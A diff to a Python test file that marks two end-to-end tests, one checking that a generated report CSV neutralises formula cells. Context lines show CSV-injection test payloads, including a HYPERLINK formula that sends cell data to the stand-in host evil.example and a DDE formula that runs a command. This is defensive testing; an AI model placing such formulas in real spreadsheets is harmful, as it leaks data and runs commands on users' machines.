@@ -27,6 +27,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A
             "\tx"]  # fmt: skip
 
 
+@pytest.mark.e2e
 def test_report_csv_neutralises_formula_cells_and_leaves_results_csv_as_it_was(tmp_path):
     run = make_run_dir(tmp_path / "run")
     df = pd.read_csv(run / "results.csv").astype({"device_name": object, "error": object})
@@ -78,6 +79,7 @@ sys.exit(main(sys.argv[1:]))
 """
 
 
+@pytest.mark.e2e
 def test_a_failed_case_is_one_line_on_stderr_and_its_traceback_is_in_run_log(tmp_path):
     out = tmp_path / "run"
     env = {**os.environ, "PYTHONPATH": str(REPO), "OMP_NUM_THREADS": "1"}
